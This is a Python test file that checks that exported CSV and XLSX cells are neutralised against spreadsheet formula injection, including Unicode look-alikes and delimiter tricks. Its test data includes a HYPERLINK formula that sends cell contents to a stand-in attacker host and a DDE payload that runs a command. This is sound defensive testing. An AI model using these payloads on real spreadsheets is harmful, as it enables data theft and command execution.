"""No cell of a table that we give away is run as a formula, however it is opened."""

import csv
import io
import re
import unicodedata
from datetime import date
from decimal import Decimal
from typing import Any

import pytest

from text.cells import as_csv, cell, harmless, in_xlsx

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1;"hier")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1+1",
    "−1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060\u00ad=1",
    "\u202e=1+1",
    "\u3164=1",
    "\x00=1",
    "\x0b=1",
    "\U000e0041=1",
    "\U0001d173=1",
    "\U0001bca0=1",
    "⩵1",
    "'=1+1",
    '"=1+1',
    "=cmd|' /C calc'!A0",
]
CUT = [
    "harmlos;=1+1;",
    "harmlos,=1+1,",
    "harmlos\t=1+1",
    "harmlos\n=1+1",
    "harmlos\r\n+1",
    'harmlos";=1+1;"',
    "harmlos; ＝1+1",
    "harmlos,\u200b@SUM(A1)",
    "=1;=2",
    "\t=1",
    "\r=1",
    " \t @SUM(A1)",
    "harmlos；=1+1",
    "harmlos｜＝1+1",
    "harmlos\u2028=1+1",
    "harmlos\x85=1+1",
]
#: How one program or another cuts a text into cells and lines.
CUTS = re.compile("[;,|；，｜﹔﹐]")
UNSEEN = {"Cc", "Cf", "Zs", "Zl", "Zp", "Lo"}


def begins_a_formula(text: str) -> bool:
    """Whether the first letter that can be seen is one of those signs, in any width."""
    for char in text:
        if unicodedata.category(char) in UNSEEN and not char.isalpha():
            continue
        if char in '\u3164"':
            continue
        return unicodedata.normalize("NFKC", char)[0] in set("=+-@−")
    return False


@pytest.mark.parametrize("text", [*FORMULAS, *CUT])
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
@pytest.mark.parametrize("quote", ['"', None])
def test_no_cell_is_a_formula(text: str, delimiter: str, quote: str | None) -> None:
    lines = as_csv([{"id": 1, "title": text, "last": "x"}]).lstrip("\ufeff")
    how: dict[str, Any] = {"quotechar": quote} if quote else {"quoting": csv.QUOTE_NONE}
    rows = list(csv.reader(io.StringIO(lines, newline=""), delimiter=delimiter, **how))
    for cells in rows:
        for found in cells:
            assert not begins_a_formula(found), found


@pytest.mark.parametrize("text", [*FORMULAS, *CUT])
def test_no_part_is_a_formula_however_it_is_cut(text: str) -> None:
    for line in harmless(text).splitlines():
        for part in CUTS.split(line):
            assert not begins_a_formula(part), part


@pytest.mark.parametrize("text", [*FORMULAS, *CUT])
def test_nothing_that_was_typed_is_lost(text: str) -> None:
    assert harmless(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("start", ["=1+1", "+1", "-1", "@SUM(A1)", "\tText", "\rText"])
def test_it_is_the_same_text_behind_one_apostrophe(start: str) -> None:
    text = as_csv([{"id": 1, "title": start}])
    row = next(iter(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";")))
    assert row["title"] == f"'{start}"


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("+49 711 216-0", "'+49 711 216-0"),
        (-3, "-3"),
        (-9.125, "-9.125"),
        (Decimal("-0.50"), "-0.50"),
        (True, "1"),
        (None, ""),
        (date(2026, 5, 4), "2026-05-04"),
        ("Café – Treff, Hof 3; ab 15 Uhr", "Café – Treff, Hof 3; ab 15 Uhr"),
        ("a-b=c@d.example", "a-b=c@d.example"),
        ("", ""),
        (["a", "=1"], "a | '=1"),
        ({"name": "=1"}, "'=1"),
        # Single times of a series: their texts are often the same, or none.
        (
            [{"day": "2027-07-14", "text": "Fest"}, {"day": "2027-08-11", "text": ""}],
            "2027-07-14 | 2027-08-11",
        ),
    ],
)
def test_what_is_meant_stays_readable(value: Any, shown: str) -> None:
    assert cell(value) == shown


def test_cells_with_separators_quotes_and_lines_come_back_whole() -> None:
    typed = 'Erster; "zweiter",\r\ndritter'
    rows = csv.DictReader(
        io.StringIO(as_csv([{"a": typed, "b": "x"}])[1:], newline=""), delimiter=";"
    )
    assert next(iter(rows)) == {"a": typed, "b": "x"}


def test_an_xlsx_cell_keeps_all_but_what_its_file_cannot_hold() -> None:
    assert in_xlsx("=1+1\x0b\ud800\t") == "=1+1\ufffd\ufffd\t"
